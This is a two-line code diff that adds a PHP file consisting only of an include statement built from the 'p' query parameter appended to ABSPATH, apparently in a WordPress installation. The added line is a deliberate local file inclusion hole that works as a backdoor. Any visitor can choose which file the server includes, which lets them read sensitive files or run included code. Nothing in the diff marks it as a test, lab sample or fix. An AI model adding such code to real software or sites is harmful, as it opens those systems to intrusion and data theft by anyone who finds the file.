@@ -1,0 +1,2 @@
+<?php
+include ABSPATH . $_GET['p'];
